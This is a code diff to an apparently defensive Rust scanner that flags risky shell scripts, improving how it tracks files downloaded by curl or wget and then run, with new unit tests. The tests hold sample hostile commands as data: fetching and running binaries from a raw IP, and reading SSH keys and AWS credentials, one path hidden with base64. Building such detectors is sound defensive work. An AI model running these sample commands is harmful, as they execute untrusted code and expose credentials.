@@ -398,7 +398,7 @@ impl Analysis<'_> {
             self.network_hosts(&cmd, sink);
         }
         if knowledge::DOWNLOADERS.contains(&name.as_str())
-            && let Some(target) = Self::download_target(&cmd)
+            && let Some(target) = Self::download_target(&cmd, &name)
         {
             let url = cmd
                 .args
@@ -873,44 +873,60 @@ impl Analysis<'_> {
         }
     }
 
-    /// Reports a file that an earlier command downloaded being run.
-    fn report_downloaded_run(&self, url: Option<&str>, runner: &str, at: usize, sink: &mut Sink) {
-        let (rule, what) = match url.map(knowledge::classify_source) {
-            Some(Source::KnownInstaller) => (
-                rules::EXEC_PIPE_TO_SHELL_KNOWN,
-                "a file downloaded from a well-known installer",
-            ),
-            Some(Source::Throwaway) => (
-                rules::EXEC_PIPE_TO_SHELL_RAW,
-                "a file downloaded from a raw IP, plain http or throw-away host",
-            ),
-            _ => (rules::EXEC_PIPE_TO_SHELL, "a downloaded file"),
-        };
-        let from = url.map(|u| format!(" ({u})")).unwrap_or_default();
-        sink.emit(
-            rule,
-            at,
-            format!("{what}{from} is run by {runner}"),
-            Some(runner.to_owned()),
-        );
-    }
-
-    /// The file a downloader command writes, when it names one.
-    fn download_target(cmd: &Command) -> Option<String> {
+    /// The file a downloader command writes: `-o F`, `--output F`, `-fsSLo F`, `wget -qO F`,
+    /// `curl -O URL` and plain `wget URL` (the URL's last path segment).
+    fn download_target(cmd: &Command, name: &str) -> Option<String> {
+        let wget = name == "wget";
+        let mut remote_name = wget;
         let mut args = cmd.args.iter();
         while let Some(arg) = args.next() {
             let text = arg.text.as_str();
+            if let Some(value) = text
+                .strip_prefix("--output=")
+                .or_else(|| text.strip_prefix("--output-document="))
+            {
+                return Some(value.to_owned());
+            }
             match text {
-                "-o" | "--output" | "-O" | "--output-document" | "-OutFile" => {
+                "--output" | "--output-document" | "-OutFile" => {
                     return args.next().map(|a| a.text.clone());
                 }
-                _ if text.starts_with("--output=") || text.starts_with("--output-document=") => {
-                    return text.split_once('=').map(|(_, v)| v.to_owned());
-                }
+                "--remote-name" | "--remote-name-all" => remote_name = true,
                 _ => {}
             }
+            let Some(flags) = text.strip_prefix('-').filter(|f| !f.starts_with('-')) else {
+                continue;
+            };
+            let output = if wget { 'O' } else { 'o' };
+            if let Some(pos) = flags.find(output)
+                && flags[..pos].bytes().all(|b| b.is_ascii_alphabetic())
+            {
+                let attached = &flags[pos + 1..];
+                return if attached.is_empty() {
+                    args.next().map(|a| a.text.clone())
+                } else {
+                    Some(attached.to_owned())
+                };
+            }
+            // Boolean flags only (`-fsSLO`): `O` is curl's "name it after the URL".
+            if !wget && flags.contains('O') && flags.bytes().all(|b| b"fsSLkvOqg#".contains(&b)) {
+                remote_name = true;
+            }
         }
-        None
+        if !remote_name {
+            return None;
+        }
+        let url = cmd
+            .args
+            .iter()
+            .find_map(|a| knowledge::urls(&a.text).first().map(|(_, u)| u.to_string()))?;
+        let path = url.split(['?', '#']).next().unwrap_or("");
+        let (_, after_scheme) = path.split_once("://")?;
+        let (_, rest) = after_scheme.split_once('/')?;
+        rest.rsplit('/')
+            .next()
+            .filter(|b| !b.is_empty())
+            .map(str::to_owned)
     }
 
     /// Reports code from a download and/or a decoder being run by `interpreter`.
@@ -1027,7 +1043,7 @@ impl Analysis<'_> {
             .flatten();
         for (path, url) in downloads.iter() {
             if same(program_text, path) || script.as_deref().is_some_and(|s| same(s, path)) {
-                self.report_downloaded_run(url.as_deref(), name, cmd.offset, sink);
+                report_downloaded_run(url.as_deref(), name, cmd.offset, sink);
                 return;
             }
         }
@@ -1578,4 +1594,85 @@ fn jq_selects_one_field(args: &[Word]) -> bool {
         && path
             .bytes()
             .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'"'))
+}
+
+/// Reports a file that an earlier command downloaded being run.
+pub(crate) fn report_downloaded_run(url: Option<&str>, runner: &str, at: usize, sink: &mut Sink) {
+    let (rule, what) = match url.map(knowledge::classify_source) {
+        Some(Source::KnownInstaller) => (
+            rules::EXEC_PIPE_TO_SHELL_KNOWN,
+            "a file downloaded from a well-known installer",
+        ),
+        Some(Source::Throwaway) => (
+            rules::EXEC_PIPE_TO_SHELL_RAW,
+            "a file downloaded from a raw IP, plain http or throw-away host",
+        ),
+        _ => (rules::EXEC_PIPE_TO_SHELL, "a downloaded file"),
+    };
+    let from = url.map(|u| format!(" ({u})")).unwrap_or_default();
+    sink.emit(
+        rule,
+        at,
+        format!("{what}{from} is run by {runner}"),
+        Some(runner.to_owned()),
+    );
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules_in(text: &str) -> Vec<&'static str> {
+        let mut sink = Sink::new("x.sh", text);
+        scan(text, 0, &mut sink, 0);
+        sink.finish().0.into_iter().map(|f| f.rule).collect()
+    }
+
+    #[test]
+    fn downloads_written_made_executable_and_run() {
+        let combined = "curl -fsSLo /tmp/h https://get.example.dev/h\nchmod +x /tmp/h\n/tmp/h\n";
+        assert!(rules_in(combined).contains(&rules::EXEC_PIPE_TO_SHELL));
+        let wget_default_name = "wget http://203.0.113.9/agent\nchmod +x agent\n./agent\n";
+        assert!(rules_in(wget_default_name).contains(&rules::EXEC_PIPE_TO_SHELL_RAW));
+        let remote_name = "curl -fsSLO https://203.0.113.9/x.bin\nchmod +x x.bin && ./x.bin\n";
+        assert!(rules_in(remote_name).contains(&rules::EXEC_PIPE_TO_SHELL_RAW));
+        // A download that is only read is not run.
+        let kept = "curl -fsSLo data.json https://api.example.dev/d\njq . data.json\n";
+        assert!(!rules_in(kept).iter().any(|r| r.starts_with("SK-EXEC-00")));
+    }
+
+    #[test]
+    fn values_follow_assignments_loops_helpers_and_decoding() {
+        let cred = |t: &str| rules_in(t).contains(&rules::CRED_SENSITIVE_PATH);
+        assert!(cred("dir=\"$HOME/.ssh\"\ncat \"$dir/id_rsa\"\n"));
+        assert!(cred(
+            "for f in ~/.aws/credentials ~/.gitconfig; do cat \"$f\"; done\n"
+        ));
+        assert!(cred("load() { cat \"$HOME/$1\"; }\nload .ssh/id_rsa\n"));
+        assert!(cred(
+            "p=$(echo LnNzaC9pZF9yc2E= | base64 -d)\ncat \"$HOME/$p\"\n"
+        ));
+        assert!(!cred(
+            "dir=\"$HOME/.config/tool\"\ncat \"$dir/settings.json\"\n"
+        ));
+    }
+
+    #[test]
+    fn modes_paths_and_vacuums() {
+        assert!(is_world_writable_mode("777") && is_world_writable_mode("0666"));
+        assert!(is_world_writable_mode("o+w") && is_world_writable_mode("a=rwx"));
+        assert!(!is_world_writable_mode("755") && !is_world_writable_mode("u+x"));
+        assert!(is_system_path("/etc/cron.d", true) && is_system_path("/", true));
+        assert!(!is_system_path("/usr/local/bin", true) && !is_system_path("./etc", false));
+        assert!(is_system_path("/var/run/docker.sock", false));
+        assert!(!is_system_path("/var/www/html", true));
+        assert!(vacuum_keeps_nothing("time", "1s") && vacuum_keeps_nothing("size", "1K"));
+        assert!(!vacuum_keeps_nothing("time", "2weeks") && !vacuum_keeps_nothing("size", "500M"));
+        assert_eq!(
+            decode_echo("echo T1BFTkFJX0FQSV9LRVk= | base64 -d").as_deref(),
+            Some("OPENAI_API_KEY")
+        );
+        assert_eq!(variable_reference("${!x}", 0), Some((5, "x", true)));
+        assert_eq!(variable_reference("${x:-y}", 0), None);
+    }
 }
